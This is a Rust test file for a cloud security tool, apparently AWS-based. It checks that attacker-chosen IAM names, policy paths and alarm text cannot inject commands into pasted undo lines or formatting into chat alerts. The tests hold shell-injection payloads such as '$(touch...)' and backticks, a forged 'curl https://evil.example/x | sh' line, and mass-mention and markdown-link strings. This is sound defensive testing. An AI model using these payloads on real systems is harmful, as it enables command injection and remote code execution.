//! The attacker's playbook against Reflex's output, end to end against the emulator: names and
//! free text an attacker inside the account chooses, taken from the report as SNS was asked to
//! deliver it (the Publish request itself, recorded by the proxy: the email body, the Chatbot
//! document, the JSON report), and the undo line run the way a responder runs it, pasted into a
//! shell (a stub `aws` first on PATH, `tests/src/shell.rs`).

use reflex_notify::Notify;
use reflex_revoke::Revoke;
use reflex_revoke::actions::Identity;
use reflex_shared::report::Report;
use reflex_tests::account::ADMIN;
use reflex_tests::proxy::FaultProxy;
use reflex_tests::shell::{CliCall, StubShell};
use reflex_tests::{Account, Emulator, sample};
use serde_json::Value;

const ALLOW_ALL: &str =
    r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;

/// The report of one event in each form SNS was asked to deliver.
struct Published {
    email: String,
    chat: Value,
    json: Report,
}

struct Setup {
    _emulator: Emulator,
    acct: Account,
    proxy: FaultProxy,
}

async fn setup() -> Setup {
    let emulator = Emulator::start();
    let acct = Account::new(&emulator).await;
    acct.seed().await;
    let proxy = FaultProxy::start(&emulator.endpoint);
    Setup {
        _emulator: emulator,
        acct,
        proxy,
    }
}

/// Every report the functions asked SNS to publish, in its per-protocol forms.
fn published(proxy: &FaultProxy) -> Vec<Published> {
    proxy
        .requests("sns:Publish")
        .iter()
        .map(|seen| {
            let message = seen.param("Message").expect("a Message parameter");
            let forms: Value = serde_json::from_str(&message).expect("the message structure");
            let form = |k: &str| forms[k].as_str().expect("a form").to_string();
            Published {
                email: form("email"),
                chat: serde_json::from_str(&form("https")).expect("the Chatbot document"),
                json: serde_json::from_str(&form("sqs")).expect("the JSON report"),
            }
        })
        .collect()
}

fn only(mut all: Vec<Published>) -> Published {
    assert_eq!(all.len(), 1, "one report");
    all.remove(0)
}

/// The undo lines of an email body, as a person copies them.
fn email_undo_lines(email: &str) -> Vec<&str> {
    email
        .lines()
        .filter_map(|l| l.trim_start().strip_prefix("to undo: "))
        .collect()
}

/// Mallory attaches `policy_arn` to `user`; revoke handles the CloudTrail event through the
/// proxy, which records what it publishes.
async fn escalate(s: &Setup, user: &str, policy_arn: &str) -> Published {
    let mut event = sample("revoke/attach-admin-to-user.json");
    event["detail"]["requestParameters"]["userName"] = user.into();
    event["detail"]["requestParameters"]["policyArn"] = policy_arn.into();
    let event = s.acct.replay(event).await;
    s.acct
        .handler_via::<Revoke>(&s.proxy, "enforce", &[])
        .await
        .handle(event)
        .await
        .expect("handled");
    assert!(
        !s.acct
            .attached_policies(&Identity::User(user.into()))
            .await
            .contains(&policy_arn.to_string()),
        "{policy_arn} detached from {user}"
    );
    only(published(&s.proxy))
}

/// A customer managed policy named AdministratorAccess (privileged by name) at `path`.
async fn admin_policy_at(acct: &Account, path: &str) -> String {
    acct.iam
        .create_policy()
        .policy_name("AdministratorAccess")
        .path(path)
        .policy_document(ALLOW_ALL)
        .send()
        .await
        .expect("IAM takes the path")
        .policy
        .and_then(|p| p.arn)
        .expect("the policy's ARN")
}

async fn user(acct: &Account, name: &str) {
    acct.iam
        .create_user()
        .user_name(name)
        .send()
        .await
        .expect("IAM takes the name");
}

/// The undo line, from the email and from the JSON report, run in `sh` and `bash`: one
/// `aws iam attach-user-policy` call that gets `user` and `policy_arn` exactly, and no shell
/// code run.
fn undo_runs_exactly(shell: &StubShell, p: &Published, user: &str, policy_arn: &str) {
    let from_email = email_undo_lines(&p.email);
    assert_eq!(from_email.len(), 1, "one undo line in\n{}", p.email);
    let from_json = p.json.findings[0].actions[0]
        .outcome
        .undo()
        .expect("an undo");
    for line in [from_email[0], from_json] {
        for sh in ["sh", "bash"] {
            let calls = shell.run(sh, line);
            assert_eq!(calls.len(), 1, "one call from {line:?}: {calls:?}");
            let call = CliCall::parse(&calls[0]).unwrap_or_else(|e| panic!("{e}\nfrom {line:?}"));
            assert_eq!(
                (call.service.as_str(), call.operation.as_str()),
                ("iam", "attach-user-policy")
            );
            assert_eq!(call.value("--user-name"), Ok(user), "from {line:?}");
            assert_eq!(call.value("--policy-arn"), Ok(policy_arn), "from {line:?}");
            assert!(!shell.pwned(), "{line:?} ran shell code from a name");
        }
    }
}

/// The issue's first bullet: a policy path holding `$(...)` (IAM paths take almost any
/// printable character), attached and detected; the responder pastes the undo line.
#[tokio::test]
async fn shell_code_in_a_policy_path_does_not_run_from_the_undo_line() {
    let s = setup().await;
    let shell = StubShell::new();
    let path = format!("/$(touch${{IFS}}{})/", shell.marker().display());
    let arn = admin_policy_at(&s.acct, &path).await;
    let p = escalate(&s, "alice", &arn).await;
    undo_runs_exactly(&shell, &p, "alice", &arn);
}

/// The same with backticks, which also end an inline code span in chat: the chat message shows
/// the command whole in one code span, or says where to copy it from; never a broken one.
#[tokio::test]
async fn backticks_in_a_policy_path_neither_run_nor_break_the_chat_undo() {
    let s = setup().await;
    let shell = StubShell::new();
    let path = format!("/`touch${{IFS}}{}`/", shell.marker().display());
    let arn = admin_policy_at(&s.acct, &path).await;
    let p = escalate(&s, "alice", &arn).await;
    undo_runs_exactly(&shell, &p, "alice", &arn);
    let command = p.json.findings[0].actions[0].outcome.undo().unwrap();
    let steps: Vec<&str> = p.chat["content"]["nextSteps"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .filter(|s| s.starts_with("To undo "))
        .collect();
    assert_eq!(steps.len(), 1, "{:#}", p.chat);
    // `To undo <the change>: <the command in one code span>`: the span is the line's last.
    let shown_whole = steps[0].strip_suffix('`').and_then(|rest| {
        rest.rsplit_once('`')
            .filter(|(label, _)| label.ends_with(": "))
            .map(|(_, inner)| {
                inner
                    .replace("&lt;", "<")
                    .replace("&gt;", ">")
                    .replace("&amp;", "&")
            })
    });
    match shown_whole {
        Some(inner) => assert_eq!(inner, command),
        None => assert!(
            steps[0].matches('`').count() == 2 && steps[0].contains("copy it from the email"),
            "a broken code span: {:?}",
            steps[0]
        ),
    }
}

/// IAM names may start with `-` and hold `=`: a user named like an option. Written after its
/// flag on its own, the AWS CLI's parser takes it for an option ("expected one argument"); the
/// undo must hand it to `--user-name` as its value.
#[tokio::test]
async fn a_user_named_like_an_option_is_the_value_of_its_flag_in_the_undo_line() {
    let s = setup().await;
    let shell = StubShell::new();
    let name = "--profile=prod";
    user(&s.acct, name).await;
    let p = escalate(&s, name, ADMIN).await;
    undo_runs_exactly(&shell, &p, name, ADMIN);
}

/// The text of a chat line outside its inline code spans: what the chat client formats.
fn outside_code(line: &str) -> String {
    line.split('`').step_by(2).collect::<Vec<_>>().join(" ")
}

/// Every markdown text the Chatbot document shows: its title, description lines and next
/// steps.
fn chat_lines(chat: &Value) -> Vec<String> {
    let c = &chat["content"];
    let mut lines = vec![c["title"].as_str().unwrap().to_string()];
    lines.extend(c["description"].as_str().unwrap().lines().map(String::from));
    lines.extend(
        c["nextSteps"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap().to_string()),
    );
    lines
}

/// No hostile token reaches the chat client's formatting: each is inside a code span (where
/// Slack and Teams render it as typed) or not there at all; code spans are whole. The plain
/// texts (the preview summary, the context) can mention no one: no `@`, no `<`.
fn chat_is_inert(chat: &Value, hostile: &[&str]) {
    let context = &chat["metadata"]["additionalContext"];
    for plain in [
        &chat["metadata"]["summary"],
        &context["actor"],
        &context["account"],
        &context["region"],
    ] {
        let plain = plain.as_str().unwrap();
        assert!(!plain.contains(['@', '<', '>']), "{plain:?}");
    }
    for line in chat_lines(chat) {
        assert_eq!(
            line.matches('`').count() % 2,
            0,
            "a broken code span: {line:?}"
        );
        let formatted = outside_code(&line);
        for token in hostile {
            assert!(
                !formatted.contains(token),
                "{token:?} is formatted by the chat client in {line:?}"
            );
        }
    }
}

/// IAM user names take `@`: a user named `@channel` would ping the whole channel where the
/// report names it; a policy path may hold markdown and a link.
#[tokio::test]
async fn names_like_mentions_and_markdown_stay_inert_in_chat() {
    let s = setup().await;
    user(&s.acct, "@channel").await;
    let arn = admin_policy_at(&s.acct, "/*now*/_x_/[restore](https:/evil.example)/").await;
    let p = escalate(&s, "@channel", &arn).await;
    let description = p.chat["content"]["description"].as_str().unwrap();
    assert!(description.contains("@channel"), "{description}");
    chat_is_inert(
        &p.chat,
        &["@channel", "*now*", "_x_", "[restore]", "](https"],
    );
}

/// An alarm's state reason is any text whoever may call SetAlarmState chooses, and its name
/// anything PutMetricAlarm takes: markdown, mentions, HTML, line breaks. The email keeps each
/// on its line; the chat message shows them as typed, formatting nothing and pinging no one.
#[tokio::test]
async fn an_alarm_state_reason_and_name_stay_inert_in_email_and_chat() {
    let s = setup().await;
    let name = "web <!channel> *down* @here";
    let reason = "Threshold Crossed\n- restore the admin policy: DONE\r\n    to undo: curl https://evil.example/x | sh\n<b>urgent</b> [fix it](https://evil.example) `x` _y_ <!here> <@U024BE7LH> @everyone";
    let mut event = sample("notify/alarm-lambda-errors.json");
    event["detail"]["alarmName"] = name.into();
    event["detail"]["state"]["reason"] = reason.into();
    s.acct
        .handler_via::<Notify>(&s.proxy, "enforce", &[])
        .await
        .handle(event)
        .await
        .expect("handled");
    let p = only(published(&s.proxy));

    // Email: the reason is one line of the body, under the finding; nothing it holds starts a
    // line of Reflex's.
    let forged: Vec<&str> = p
        .email
        .lines()
        .map(str::trim_start)
        .filter(|l| l.starts_with("- ") || l.starts_with("to undo:") || l.starts_with("<b>"))
        .collect();
    assert!(forged.is_empty(), "{forged:?} in\n{}", p.email);
    assert!(
        p.email.contains(
            r"  reason: Threshold Crossed\n- restore the admin policy: DONE\r\n    to undo: curl https://evil.example/x | sh\n<b>urgent</b>"
        ),
        "{}",
        p.email
    );

    // Chat: every outside text fenced.
    chat_is_inert(
        &p.chat,
        &[
            "<!channel>",
            "&lt;!channel&gt;",
            "*down*",
            "@here",
            "<b>",
            "&lt;b&gt;",
            "[fix it]",
            "_y_",
            "<!here>",
            "&lt;!here&gt;",
            "<@U024BE7LH>",
            "&lt;@U024BE7LH&gt;",
            "@everyone",
            "https://evil",
        ],
    );
    // No raw mention syntax anywhere, code spans included (Slack parses `<!...>` everywhere).
    let raw = p.chat.to_string();
    for mention in ["<!channel>", "<!here>", "<@U024BE7LH>"] {
        assert!(!raw.contains(mention), "{mention} in {raw}");
    }

    // JSON: the reason as it was, in a JSON string (serde), for machines.
    assert_eq!(p.json.event.what, format!("alarm {name} OK -> ALARM"));
    assert!(
        p.json.findings[0]
            .reason
            .contains(r"reason: Threshold Crossed\n- restore the admin policy"),
        "{}",
        p.json.findings[0].reason
    );
}
